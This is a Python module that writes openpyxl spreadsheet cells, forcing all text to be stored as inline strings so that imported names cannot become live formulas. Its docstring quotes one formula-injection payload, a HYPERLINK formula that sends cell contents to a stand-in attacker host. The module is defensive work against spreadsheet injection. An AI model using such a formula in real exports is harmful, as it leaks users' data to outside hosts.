"""Cells for every workbook the product writes: data is always data, never a formula.

openpyxl turns a string beginning with "=" into a formula (and "#N/A" into an error), so a member
named `=HYPERLINK("http://evil.example/?x="&A1,"x")` — from an imported list or an approved profile
correction — would become a live formula in the export or the report, and the export would no
longer read back. Every text goes in as an inline string instead: Excel and LibreOffice show it as
typed, and the importer reads back exactly the same value (no apostrophe or other prefix is added).
Only the product's own computed formulas, if it ever writes any, may be formula cells.
"""
from __future__ import annotations

from collections.abc import Iterable
from datetime import date, datetime
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# What a cell of ours holds (bool and int are numbers; datetime is a date).
CellValue = str | float | date | None

DATE_FORMAT = "DD/MM/YYYY"
DATETIME_FORMAT = "DD/MM/YYYY HH:MM"


def cell(sheet: WriteOnlyWorksheet, value: CellValue, **style: Any) -> Cell:
    """One write-only cell: text as text whatever it starts with, dates shown dd/mm/yyyy, numbers as numbers.

    `style`: openpyxl cell attributes (font, fill, alignment, number_format…).
    """
    from openpyxl.cell import WriteOnlyCell  # only when a workbook is written: it is slow to import

    c = WriteOnlyCell(sheet)
    c.value = value  # the same setter WriteOnlyCell(value=) calls; its stub leaves out plain dates
    if isinstance(value, str):
        c.data_type = "s"  # never "f" (formula) nor "e" (error)
    elif isinstance(value, datetime):
        c.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        c.number_format = DATE_FORMAT
    for key, val in style.items():
        setattr(c, key, val)
    return c


def cells(sheet: WriteOnlyWorksheet, values: Iterable[CellValue], **style: Any) -> list[Cell]:
    """A row for `sheet.append`: every value through `cell`."""
    return [cell(sheet, value, **style) for value in values]
